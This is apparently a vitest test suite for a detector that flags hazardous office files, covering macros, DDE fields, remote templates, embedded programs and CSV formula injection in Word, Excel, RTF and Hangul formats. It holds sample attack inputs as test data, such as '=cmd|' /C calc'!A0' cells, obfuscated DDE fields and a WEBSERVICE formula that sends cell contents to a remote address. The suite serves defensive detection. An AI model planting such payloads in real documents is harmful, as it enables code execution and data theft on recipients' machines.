import { describe, expect, it } from 'vitest';
import { zipOf } from '../../lib/testing/make-zip.ts';
import { findHazards } from './find-hazards.ts';
import {
  document,
  field,
  hangul,
  link,
  ORDINARY_SCRIPT,
  objectOf,
  oldWorkbook,
  program,
  sheetPackage,
  wordPackage,
} from './testing/hazardous.ts';
import { makeStorage } from './testing/make-storage.ts';

const hazardsIn = async (bytes: Buffer | string, name = 'a') =>
  (await findHazards(Buffer.from(bytes as string), name)).map(({ hazard }) => hazard).sort();
const inZip = (name: string, content: string | Buffer) => zipOf({ [name]: content });
const words = (inside: string) => wordPackage({ 'word/document.xml': document(inside) });
const flat = (parts: string) =>
  `<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">${parts}</pkg:package>`;
const run = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const told = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;

describe('FIL-01 documents in one file of text', () => {
  it.each([
    [
      'flat OPC with macros',
      'a.xml',
      flat('<pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>eA==</pkg:binaryData></pkg:part>'),
      'MACRO',
    ],
    [
      'flat OPC with a type of macros',
      'a.xml',
      flat('<p:part p:contentType="application/vnd.ms-office.vbaProject"/>'),
      'MACRO',
    ],
    ['Word 2003 with macros', 'a.xml', '<?xml version="1.0"?><x:wordDocument x:macrosPresent="&#121;es"/>', 'MACRO'],
    [
      'Word 2003 with macros in their wrapping',
      'a.xml',
      '<w:doc><w:docSuppData><w:binData>x</w:binData></w:docSuppData></w:doc>',
      'MACRO',
    ],
    [
      'macros in two bytes a letter',
      'a.xml',
      Buffer.from('\ufeff<w:wordDocument w:macrosPresent="yes"/>', 'utf16le'),
      'MACRO',
    ],
    ['a page in a letter', 'a.doc', 'MIME-Version: 1.0\n\n<link href=3D"edit=\ndata.mso">', 'MACRO'],
    ['a page in a letter behind a PDF', 'a.doc', '%PDF-1.7\nMIME-Version: 1.0\n\nUVdO\nQWN0aXZl\n TWltZQAA', 'MACRO'],
    ['flat OPC with a field', 'a.xml', flat(document(field('DDEAUTO x'))), 'REMOTE'],
    ['flat OPC with a template', 'a.xml', flat(link('attachedTemplate', 'https://example.com/a.dotm')), 'REMOTE'],
    [
      'Word 2003 with a template',
      'a.xml',
      '<w:doc><w:attachedTemplate w:val="http://example.com/a.dot"/></w:doc>',
      'REMOTE',
    ],
    ['Excel 2003 with a call', 'a.xml', `<Workbook><Cell ss:Formula="=cmd|'/c calc'!A0"/></Workbook>`, 'REMOTE'],
    [
      'a page with a field',
      'a.doc',
      '<html><span style="mso-element:field-begin"></span><b>DDE</b>AUTO x</html>',
      'REMOTE',
    ],
    ['a page with a call', 'a.xls', "<table><td>=cmd|'/c calc'!A0</td></table>", 'REMOTE'],
    [
      'flat OPC with a program',
      'a.xml',
      flat(`<pkg:part><pkg:binaryData>${objectOf('a.exe', program).toString('base64')}</pkg:binaryData></pkg:part>`),
      'EXECUTABLE',
    ],
    [
      'HWPML with a script',
      'a.hml',
      '<HWPML><SCRIPTCODE><SCRIPTSOURCE>run();</SCRIPTSOURCE></SCRIPTCODE></HWPML>',
      'MACRO',
    ],
    ['sheets of commands under another name', 'a.csv', 'ID;PWXL;N;E\r\nC;X1;Y1;EEXEC("calc")\r\n', 'MACRO'],
  ])('%s', async (_, name, content, hazard) => {
    expect(await hazardsIn(inZip(name, content), 'a.zip')).toEqual([hazard]);
  });
  it.each([
    ['data', 'a.xml', '<?xml version="1.0" encoding="euc-kr"?><invoice part="1"><part name="bolt"/></invoice>'],
    ['a page of words', 'a.doc', '<html><p>DDEAUTO and macros</p></html>'],
    [
      'a Word 2003 file with a picture',
      'a.xml',
      '<w:wordDocument w:macrosPresent="no"><w:binData w:name="wordml://1.png">iVBORw0KGgo=</w:binData></w:wordDocument>',
    ],
  ])('the twin: not %s', async (_, name, content) => {
    expect(await hazardsIn(inZip(name, content), 'a.zip')).toEqual([]);
  });
});

describe('FIL-01 fields and templates, however they are written', () => {
  const settings = (target: string) =>
    wordPackage({ 'word/_rels/settings.xml.rels': link('attachedTemplate', target) });
  it.each([
    ['DDE behind 500 spaces', words(field(' '.repeat(500), 'dDeAuTo x'))],
    ['DDE over many paragraphs', words(`${run('begin')}${told('DDE')}</w:p><w:p>${told('AUTO x')}${run('end')}`)],
    [
      'letters by their numbers',
      words(`${run('begin')}${field('QUOTE 68 68 69 65 85 84 79')}${told(' c:\\\\x')}${run('end')}`),
    ],
    [
      'some letters by their numbers',
      words(`${run('begin')}${told('D')}${field('QUOTE "DE"')}${told(' x')}${run('end')}`),
    ],
    ['a name that another field finds out', words(`${run('begin')}${field('REF a')}${told(' x')}${run('end')}`)],
    ['a sign in quotes before it', words(`${run('begin')}<w:instrText a=">">DDE x</w:instrText>${run('end')}`)],
    ['two instructions of which one is not Word’s', words('<w:fldSimple w:instr="DDE x" y:instr="PAGE"/>')],
    ['a simple field behind a long word', words(`<w:fldSimple y:a="${'>'.repeat(70_000)}" w:instr="DDE x"/>`)],
    ['raw text', words(`${run('begin')}<w:instrText><![CDATA[DDE x > y]]></w:instrText>${run('end')}`)],
    ['a formula with a letter by its number', sheetPackage({ 'xl/s.xml': '<x><f>cmd&#124;x!A0</f></x>' })],
    ['a formula with an instruction in it', sheetPackage({ 'xl/s.xml': '<x><f>cmd<?a?>|x!A0</f></x>' })],
    ['a template by a long name of Windows', settings('\\\\?\\UNC\\203.0.113.7\\a.dotx')],
    ['the same by its device', settings('\\\\.\\UNC\\203.0.113.7\\a.dotx')],
    ['a template by file:', settings('FILE:\\\\203.0.113.7\\a.dotx')],
    ['a template by file: and four strokes', settings('file:////203.0.113.7/a.dotx')],
    ['a template by smb:', settings('smb://203.0.113.7/a.dotx')],
    ['a template by numbers', settings('file:///%5C%5C203.0.113.7%5Ca.dotx')],
    ['a field that fetches', words(field('INCLUDETEXT "https://example.com/a.docx"'))],
    ['a field that links', words(field('LINK Word.Document "\\\\\\\\203.0.113.7\\\\a.docx" \\a'))],
    [
      'a list that letters are made of',
      wordPackage({ 'word/_rels/s.rels': link('mailMergeSource', 'http://example.com/') }),
    ],
    ['a page in a part', wordPackage({ 'word/a.dat': '<html><i style="mso-element:field-begin"></i>DDE x</html>' })],
    [
      'a function that asks an address',
      sheetPackage({ 'xl/s.xml': '<x><f>_xlfn.WEBSERVICE("http://example.com")</f></x>' }),
    ],
    ['a link of a binary workbook', sheetPackage({ 'xl/e.bin': Buffer.from('e802060100000000', 'hex') })],
    [
      'a call of LibreOffice inside of another',
      zipOf({ mimetype: 'x', 'content.xml': '<a table:formula="of:=1+DDE(1)"/>' }),
    ],
    ['a call of LibreOffice', zipOf({ mimetype: 'x', 'content.xml': '<a table:formula="of:=DDE(&quot;x&quot;)"/>' })],
  ])('%s', async (_, bytes) => {
    expect(await hazardsIn(bytes)).toEqual(['REMOTE']);
  });
  it('a tag without end is not looked into', async () => {
    expect(await hazardsIn(words(`<w:fldSimple a="${'x'.repeat(2_500_000)}" w:instr="DDE x"/>`))).toEqual(['SEALED']);
  });
  it.each([
    [
      'fields in fields',
      words(
        `${run('begin')}${told('IF ')}${field('MERGEFIELD a')}${told('= 1 "x" "y"')}${run('separate')}${run('end')}`,
      ),
    ],
    [
      'links in a table of contents',
      words(`${run('begin')}${told('TOC \\\\o')}${run('separate')}${field('HYPERLINK \\\\l "a"')}${run('end')}`),
    ],
    [
      'a link to a file of this machine',
      words(field('LINK Excel.Sheet.12 "C:\\\\관리비.xlsx" "Sheet1!R1C1" \\a \\f 5')),
    ],
    ['QUOTE', words(field('QUOTE "제목"'))],
    ['a template on this machine', settings('file:///C:\\Users\\a\\공문.dotx')],
    ['the same by its long name', settings('\\\\?\\C:\\Users\\a\\공문.dotx')],
    ['a long text', sheetPackage({ 'xl/s.xml': `<x><v>${'a|b '.repeat(60_000)}</v><f>SUM(A1:A9)</f></x>` })],
    [
      'ordinary formulas',
      sheetPackage({
        'xl/s.xml':
          '<x><f>VLOOKUP(A1,[1]관리비!$A:$C,3,0)</f><f>IF(표1[동|호]="101|904",-1,+2)</f><f>HYPERLINK("https://example.com","x")</f></x>',
      }),
    ],
  ])('the twin: not %s', async (_, bytes) => {
    expect(await hazardsIn(bytes)).toEqual([]);
  });
});

describe('FIL-01 lists of values that call programs', () => {
  it.each([
    "=cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "'=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=SUM(1,2)+cmd|\'/c a,b\'!A0"',
    '"=cmd|""/c calc""!A0"',
    '=rundll32|calc!A0',
    '=WEBSERVICE("http://example.com/"&A1)',
    "＝cmd|'/c calc'!A0",
    "=MSEXCEL|'\\..\\..\\calc.exe'!''",
  ])('%s', async (cell) => {
    for (const name of ['a.csv', 'a.tsv'])
      expect(await hazardsIn(inZip(name, `동,호\n101,904\r${cell}\n`), 'a.zip')).toEqual(['REMOTE']);
    const wide = Buffer.from(`\ufeff동\t호\n101\t${cell}\n`, 'utf16le');
    expect(await hazardsIn(inZip('a.csv', wide), 'a.zip')).toEqual(['REMOTE']);
  });
  it('the twin: negative numbers, phones, strokes and formulas of an office', async () => {
    const list =
      'ID,이름,전화,금액\n1,홍길동,+82-10-1234-5678,-3500\n2,"김, 철수",010-1234-5678,"-1,200"\n3,@관리소|담당,+82 2 123 4567,=SUM(D2:D3)\n' +
      '4,- 승강기 점검|교체!,+1,"=IF(A1=""a|b"",1,2)"\n5,=A1&"|"&B1,-,+\n';
    expect(await hazardsIn(list, '목록.csv')).toEqual([]);
  });
});

describe('FIL-01 RTF, however its words are written', () => {
  it.each([
    ['a template in letters by number', "{\\rtf1{\\*\\template \\'68\\'74tp://example.com/a}}", 'REMOTE'],
    ['a template over groups', '{\\rtf1{\\*\\template {\\b h}{\\i t}tp://example.com/a}}', 'REMOTE'],
    ['a template on another machine', '{\\rtf1{\\*\\template \\\\\\\\203.0.113.7\\\\a.dot}}', 'REMOTE'],
    ['DDE in letters by number', "{\\rtf1{\\field{\\*\\fldinst \\'44\\u68 ?E x}}}", 'REMOTE'],
    ['DDE without letters that stand in', '{\\rtf1\\uc0{\\field{\\*\\fldinst \\u68\\u68 E x}}}', 'REMOTE'],
    ['DDE over lines', '{\\rtf1{\\field{\\*\\fldinst D\r\nD\r\nEAUTO x}}}', 'REMOTE'],
    ['DDE far behind its beginning', `{\\rtf1{\\field{\\*\\fldinst${'{\\b }'.repeat(300)} DDE x}}}`, 'REMOTE'],
    [
      'DDE that another field writes',
      '{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}} x}}}',
      'REMOTE',
    ],
    ['an object that is linked', '{\\rtf1{\\object\\objlink{\\*\\objclass x}}}', 'MACRO'],
    ['an object behind bytes that do not come', '{\\rtf1\\bin4294967297 {\\object{\\*\\objdata 01}}}', 'MACRO'],
    ['an object behind spaces', '  \n{\\rtf1{\\object{\\*\\objdata 01}}}', 'MACRO'],
  ])('%s', async (_, text, hazard) => {
    expect(await hazardsIn(inZip('a.rtf', text), 'a.zip')).toEqual([hazard]);
  });
  it('the twin: links, pages and the template of this machine', async () => {
    const text =
      '{\\rtf1{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}{\\field{\\*\\fldinst HYPERLINK "https://example.com"}{\\fldrslt DDE x}}{\\field{\\*\\fldinst PAGE}}}';
    expect(await hazardsIn(inZip('a.rtf', text), 'a.zip')).toEqual([]);
  });
});

describe('FIL-01 containers of before 2007 and of Hangul', () => {
  const locked = Buffer.from('0908100000060500000000000000000000000000' + '2f000600000000000000', 'hex');
  const word = (flags: number) => {
    const head = Buffer.alloc(1_000);
    head.writeUInt16LE(0xa5ec, 0);
    head.writeUInt16LE(flags, 0x0a);
    return head;
  };
  const template = (address: string) => {
    const texts = ['', address].flatMap((text) => [Buffer.from([text.length, 0]), Buffer.from(text, 'utf16le')]);
    return makeStorage({
      WordDocument: word(0),
      '1Table': Buffer.concat([Buffer.from('ffff02000000', 'hex'), ...texts]),
    });
  };
  const user = Buffer.alloc(20);
  user.writeUInt32LE(0xf3d1c4df, 12);
  it.each([
    ['a workbook with a password', makeStorage({ Workbook: locked }), 'SEALED'],
    ['the same, its stream in other letters', makeStorage({ wORKBOOK: locked }), 'SEALED'],
    ['a Word file with a password', makeStorage({ WordDocument: word(0x0100) }), 'SEALED'],
    ['slides with a password', makeStorage({ 'PowerPoint Document': 'x', 'Current User': user }), 'SEALED'],
    ['a Hangul document with a password', lockedHangul(), 'SEALED'],
    ['macros in other letters', makeStorage({ WordDocument: 'x', 'mACROS/': '' }), 'MACRO'],
    ['macros in other letters still', makeStorage({ Workbook: 'x', _vba_Project: 'x' }), 'MACRO'],
    [
      'DDE of an old doc in other letters',
      makeStorage({ WORDDOCUMENT: `${'x'.repeat(600)}\x13${' '.repeat(60)}dDe x` }),
      'REMOTE',
    ],
    ['a template of any ending', template('http://example.com/logo.png'), 'REMOTE'],
    ['a template on another machine', template('\\\\203.0.113.7\\a.dot'), 'REMOTE'],
    [
      'an object at an address',
      makeStorage({ '\u0001Ole': Buffer.from('x\0http://example.com/a.hta', 'utf16le') }),
      'REMOTE',
    ],
    ['a drawing that is a program', hangul(ORDINARY_SCRIPT, { 'BIN0001.eps': Buffer.from('x') }), 'MACRO'],
    [
      'such a drawing under another name',
      hangul(ORDINARY_SCRIPT, { 'BIN0001.jpg': Buffer.from('%!PS-Adobe-3.0 EPSF-3.0') }),
      'MACRO',
    ],
    ['such a drawing of HWPX', zipOf({ mimetype: 'x', 'BinData/image1.eps': 'x' }), 'MACRO'],
    ['the same under another name', zipOf({ mimetype: 'x', 'BinData/image1.png': '%!PS-Adobe-3.0' }), 'MACRO'],
    [
      'an object of Hangul that is not packed',
      hangul(ORDINARY_SCRIPT, { 'BIN0001.OLE': objectOf('a.exe', program) }),
      'EXECUTABLE',
    ],
    [
      'an object of Hangul under another name',
      hangul(ORDINARY_SCRIPT, { 'BIN0002.bmp': objectOf('a.exe', program) }),
      'EXECUTABLE',
    ],
    ['a program in Hangul', hangul(ORDINARY_SCRIPT, { 'BIN0002.png': program }), 'EXECUTABLE'],
    [
      'an object of HWPX',
      zipOf({ mimetype: 'x', 'BinData/a.ole': Buffer.concat([Buffer.alloc(4), objectOf('a.exe', program)]) }),
      'EXECUTABLE',
    ],
    [
      'macros in a letter inside of a document',
      wordPackage({ 'word/a.dat': 'MIME-Version: 1.0\n\nQWN0aXZlTWltZQ' }),
      'MACRO',
    ],
    ['bytes that nobody knows', inZip('a.doc', Buffer.from('0e11fc0dd0cf110e00000000', 'hex')), 'SEALED'],
    ['a bare sheet of commands', inZip('a.xls', Buffer.from('0904060000004000' + '00000a00', 'hex')), 'MACRO'],
  ])('%s', async (_, bytes, hazard) => {
    expect(await hazardsIn(bytes)).toEqual([hazard]);
  });
  it('the twin: a template of this machine, pictures of Hangul, a workbook without a password', async () => {
    expect(await hazardsIn(template('C:\\Users\\a\\Normal.dot'))).toEqual([]);
    expect(
      await hazardsIn(
        hangul(ORDINARY_SCRIPT, { 'BIN0001.jpg': Buffer.from('ffd8ffe0', 'hex'), 'BIN0002.wmf': Buffer.from('x') }),
      ),
    ).toEqual([]);
    expect(await hazardsIn(oldWorkbook({}), 'a.xls')).toEqual([]);
  });
});

function lockedHangul(): Buffer {
  const header = Buffer.alloc(256);
  header.write('HWP Document File');
  header.writeUInt32LE(3, 36);
  return makeStorage({ FileHeader: header, DocInfo: 'x' });
}
